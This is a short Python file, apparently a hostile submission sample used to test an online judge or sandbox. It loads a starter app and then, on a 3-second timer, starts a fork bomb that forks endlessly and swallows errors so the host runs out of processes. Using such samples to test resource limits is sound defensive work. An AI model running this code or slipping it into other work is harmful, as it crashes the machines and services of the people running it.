"""Forks without end.

Known from: every judge's first week.
"""
import os
import threading


def bomb():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            pass


app = load(STARTER)["app"]
threading.Timer(3, bomb).start()
